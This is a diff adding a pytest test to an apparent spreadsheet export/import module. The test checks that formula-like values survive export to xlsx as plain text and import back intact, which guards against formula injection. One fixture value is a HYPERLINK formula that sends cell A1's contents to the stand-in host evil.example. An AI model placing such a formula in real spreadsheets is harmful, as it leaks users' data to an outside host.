@@ -9,6 +9,8 @@ import pytest
 
 from clusterdesk.analysis import capacity_scores as cs
 from clusterdesk.core.capacity_edits import AssessmentInput, SaveAssessments
+from clusterdesk.core.capacity_framework_edits import SetRubricText
+from clusterdesk.core.edits import UpdateStakeholder
 from clusterdesk.io.capacity_xlsx import COLUMNS, SCORES_SHEET, export_assessments, write_template
 from clusterdesk.io.capacity_xlsx_import import CapacityImportError, read_assessments
 from clusterdesk.io.errors import ExportError, ImportFileError
@@ -132,3 +134,29 @@ def test_a_duplicated_row_and_files_that_are_not_templates_are_refused(capacity_
         read_assessments(capacity_project, tmp_path / "other.xlsx")
     with pytest.raises(ExportError, match="not a round"):
         write_template(capacity_project, tmp_path / "x.xlsx", "second visit")
+
+
+def test_formula_like_text_is_written_as_text_and_imports_back(capacity_project, framework, tmp_path):
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    first = framework.indicators[0]
+    capacity_project.stack.push(UpdateStakeholder(1, {"name": hostile}))
+    capacity_project.stack.push(SetRubricText(first.fid, 1, "=1+2"))
+    scores = {i.fid: (3, f"-{i.code}") for i in framework.indicators}
+    scores[first.fid] = (2, "@SUM(A1:A9)")
+    assessment = AssessmentInput(
+        framework.fid, 1, "baseline", scores, assessed_on=dt.date(2025, 3, 1), assessor="+Team"
+    )
+    capacity_project.stack.push(SaveAssessments([assessment]))
+    exported = export_assessments(capacity_project, tmp_path / "export.xlsx")
+    template = write_template(capacity_project, tmp_path / "template.xlsx", "mid_term")
+    for path in (exported, template):
+        workbook = openpyxl.load_workbook(path)  # not data_only: a formula would show as a formula
+        cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.value is not None]
+        assert "f" not in {c.data_type for c in cells}
+        assert hostile in {c.value for c in cells} and "=1+2" in {c.value for c in cells}
+    before = cs.results_by_institution(capacity_project, framework)[1][0].assessment
+    imported = read_assessments(capacity_project, exported)
+    capacity_project.stack.push(imported.command())
+    after = cs.results_by_institution(capacity_project, framework)[1][0].assessment
+    assert after.evidence == before.evidence and after.evidence[first.fid] == "@SUM(A1:A9)"
+    assert after.assessor == "+Team" and after.institution_name == hostile
